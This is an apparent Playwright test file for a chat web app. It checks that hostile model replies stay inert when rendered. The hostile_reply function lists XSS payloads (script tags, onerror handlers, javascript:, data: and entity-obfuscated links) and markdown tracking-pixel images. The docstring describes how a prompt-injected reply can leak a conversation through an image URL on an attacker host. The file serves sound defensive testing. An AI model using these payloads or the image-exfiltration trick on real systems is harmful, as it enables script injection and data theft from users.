"""Hostile model output in a real Chromium: scripts, event handlers, javascript: links and markdown tricks
stay inert text in the chat, the history search, a reopened conversation, a replay and the comparison.

"Inert" is checked the way an attacker would win: a dialog opens, the page logs an error, an element that
runs script (or an event-handler attribute) appears inside a message, a javascript:/data: link exists to be
clicked, or the browser fetches a URL the reply chose (a markdown image is the classic way a prompt-injected
reply leaks the conversation: `![](https://attacker/?q=<secret>)` loads without a click).
"""

from __future__ import annotations

from tests.browser.harness import search_history, send_chat, wait_until_idle
from tests.fake_openai import Reply

MESSAGES = "[data-testid=stChatMessage]"


def hostile_reply(tracker: str) -> str:
    """Markdown and HTML a model might be steered into writing; `tracker` is a URL the test watches."""
    return "\n\n".join(
        [
            "Here is the answer. <script>alert(1)</script> And more.",
            '<img src=x onerror="alert(2)">',
            "[click me](javascript:alert(3))",
            '<a href="javascript:alert(4)">raw link</a>',
            "<svg onload=alert(5)>",
            '<iframe srcdoc="<script>parent.alert(6)</script>"></iframe>',
            "<javascript:alert(7)>",
            "[spaced link]( JaVaScRiPt:alert(8) )",
            "[entity link](&#106;avascript:alert(9))",
            "[ref link][evil]\n\n[evil]: javascript:alert(10)",
            "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=)",
            f"![tracking pixel]({tracker}/pixel-inline?leak=secret)",
            f"![ref pixel][px]\n\n[px]: {tracker}/pixel-reference?leak=secret",
            f'<img src="{tracker}/pixel-html?leak=secret">',
            "![js image](javascript:alert(12))",
            "<style>body { display: none !important }</style>",
            '<form action="javascript:alert(13)"><button>go</button></form>',
            '<base href="javascript:alert(14)//">',
            '<meta http-equiv="refresh" content="0;url=javascript:alert(15)">',
            r"$\href{javascript:alert(16)}{math link}$",
            ":red[<img src=x onerror=alert(17)>]",
            "# " + "HUGE HEADER " * 40,
            "![](relative-image)",
            "END-OF-HOSTILE-REPLY",
        ]
    )


# Text the user must still be able to read: raw HTML shows as its source, links keep their words.
VISIBLE = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    "click me",
    '<a href="javascript:alert(4)">raw link</a>',
    "<svg onload=alert(5)>",
    "<style>body { display: none !important }</style>",
    "tracking pixel",  # an image's alt text, now the words of a link
    "END-OF-HOSTILE-REPLY",
)
# Turning images into links must not touch code: a Rust answer still reads as written.
RUST_REPLY = "Like this:\n\n```rust\nlet v = vec![1, 2]; // ![not an image](x)\n```\n\nAnd `vec![3]` inline."

# Inside `root`: elements that run script or load things, on* attributes, and URLs with a script scheme.
# A data: link is left alone: Chromium refuses to open data: URLs as a page (the test clicks one).
_DANGER_JS = """(root) => {
    const found = [];
    const script = /^(javascript|vbscript):/i, scriptOrData = /^(javascript|vbscript|data):/i;
    const tags = new Set(['SCRIPT', 'IFRAME', 'FRAME', 'OBJECT', 'EMBED', 'STYLE', 'FORM', 'BASE', 'META', 'LINK']);
    for (const scope of document.querySelectorAll(root)) {
        for (const el of scope.querySelectorAll('*')) {
            if (tags.has(el.tagName.toUpperCase())) found.push('<' + el.tagName.toLowerCase() + '>');
            for (const attr of el.attributes) {
                const value = attr.value.replace(/[\\s\\u0000-\\u001f]+/g, '');
                if (attr.name.toLowerCase().startsWith('on')) found.push(el.tagName + '[' + attr.name + ']');
                const scheme = el.tagName === 'A' && attr.name === 'href' ? script : scriptOrData;
                if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attr.name) && scheme.test(value))
                    found.push(el.tagName + '[' + attr.name + '=' + attr.value + ']');
            }
            if (el.tagName === 'IMG' && el.getAttribute('src') && !el.closest('[data-testid=stChatMessageAvatarCustom]'))
                found.push('IMG[src=' + el.getAttribute('src') + ']');
        }
    }
    return found;
}"""


def assert_inert(page, console_errors: list[str], fake, where: str, root: str = MESSAGES) -> None:
    """Nothing ran, nothing dangerous was drawn under `root`, and no URL from the reply was fetched."""
    dangerous = page.evaluate(_DANGER_JS, root)
    assert dangerous == [], f"{where}: dangerous elements or attributes: {dangerous}"
    assert page.errors == [], f"{where}: dialogs or page errors: {page.errors}"
    assert console_errors == [], f"{where}: console errors: {console_errors}"
    fetched = [r.path for r in fake.requests if "pixel" in r.path]
    assert fetched == [], f"{where}: the browser fetched URLs the reply chose: {fetched}"
    assert page.locator("[data-testid=stAppViewContainer]").is_visible(), f"{where}: the page was hidden"


def click_every_link(page, root: str = MESSAGES) -> None:
    """Click each link inside `root` that is not plain http(s) — where a script URL would have ended up —
    as a curious user would; new tabs are closed again. (An http link fetches its page when clicked: that
    is the user's choice, not the reply's.)"""
    links = page.locator(f"{root} a:not([href^='http:']):not([href^='https:'])")
    for index in range(links.count()):
        link = links.nth(index)
        if link.is_visible():
            # Enter on the focused link is a real activation, and no overlapping header or chat box can
            # swallow it the way they can a mouse click.
            link.focus()
            page.keyboard.press("Enter")
            # A script URL runs in the task the key press queued: once the page has run a later task and
            # drawn a frame, any dialog it fired has been caught (no fixed wait).
            page.evaluate("() => new Promise(done => setTimeout(() => requestAnimationFrame(done), 0))")
    for other in page.context.pages:
        if other is not page:
            other.close()


def test_hostile_markdown_and_html_in_replies_stay_inert(live_app, page):
    server, fake = live_app
    tracker = f"http://127.0.0.1:{fake.port}"
    fake.default = Reply(text=hostile_reply(tracker), chunk_chars=40)
    console_errors: list[str] = []

    def on_console(message) -> None:
        # Opening a page by its URL (/History) makes Streamlit probe /History/_stcore/…, which 404s: its own
        # noise, not ours.
        if message.type == "error" and "/_stcore/" not in (message.location or {}).get("url", ""):
            console_errors.append(f"{message.text} ({message.location})")

    page.on("console", on_console)

    def on_popup(popup) -> None:  # a link that opens a new tab: its dialogs count too
        popup.on("dialog", lambda d: (page.errors.append(f"popup dialog: {d.message}"), d.dismiss()))

    page.context.on("page", on_popup)

    # The chat (a dialog fired while the reply streams in would be caught as well).
    page.goto(server.url)
    wait_until_idle(page)
    send_chat(page, "Please answer with some HTML")
    reply = page.locator(MESSAGES).nth(1)
    reply.get_by_text("END-OF-HOSTILE-REPLY").wait_for(timeout=15_000)  # Markdown is drawn a moment later
    text = reply.inner_text()
    for piece in VISIBLE:
        assert piece in text, f"the user cannot read {piece!r} in the reply"
    assert_inert(page, console_errors, fake, "chat")
    click_every_link(page)
    assert_inert(page, console_errors, fake, "chat, after clicking every link")

    # A server error whose message is hostile is drawn by st.error: the same rules apply.
    hostile_error = "Bad request: [fix it](javascript:alert(20)) <img src=x onerror=alert(21)>"
    fake.script(Reply(status=400, error_message=hostile_error))
    send_chat(page, "And once more")
    page.locator(MESSAGES).nth(3).get_by_text("onerror=alert(21)", exact=False).wait_for(timeout=15_000)
    assert_inert(page, console_errors, fake, "chat error")

    fake.script(Reply(text=RUST_REPLY))
    send_chat(page, "Show me a Rust vector")
    rust = page.locator(MESSAGES).nth(5).locator("code")
    rust.filter(has_text="let v").wait_for(timeout=15_000)  # the highlighted block is drawn a moment later
    assert rust.all_inner_texts() == ["let v = vec![1, 2]; // ![not an image](x)", "vec![3]"]

    # Replay sends the same request again and draws both replies and their word diff.
    page.get_by_role("button", name="Replay").first.click()
    page.get_by_text("Word-level difference").wait_for(timeout=30_000)
    wait_until_idle(page)
    assert_inert(page, console_errors, fake, "replay", root="[data-testid=stMain]")

    # History: the search snippet, then the conversation reopened from it.
    page.goto(f"{server.url}/History")
    wait_until_idle(page)
    search_history(page, "alert")
    main = page.locator("[data-testid=stMain]")
    assert "<script>alert(1)</script>" in main.inner_text()
    assert_inert(page, console_errors, fake, "history search", root="[data-testid=stMain]")
    click_every_link(page, root="[data-testid=stMain] [data-testid=stMarkdown]")
    assert_inert(page, console_errors, fake, "history search, after clicking", root="[data-testid=stMain]")
    page.get_by_role("link", name="Open").first.click()
    page.wait_for_url("**/?c=*", timeout=15_000)
    wait_until_idle(page)
    page.locator(MESSAGES).nth(1).get_by_text("END-OF-HOSTILE-REPLY").wait_for(timeout=15_000)
    assert_inert(page, console_errors, fake, "reopened conversation")

    # Three panes on the Compare page draw the same reply side by side.
    page.goto(f"{server.url}/Compare_roles")
    wait_until_idle(page)
    box = page.locator("[data-testid=stChatInput] textarea")
    box.fill("Compare this")
    box.press("Enter")
    page.wait_for_function(
        "() => [...document.querySelectorAll('[data-testid=stChatMessage]')]"
        ".filter(m => m.innerText.includes('END-OF-HOSTILE-REPLY')).length === 3",
        timeout=60_000,
    )
    wait_until_idle(page)
    assert_inert(page, console_errors, fake, "compare panes")
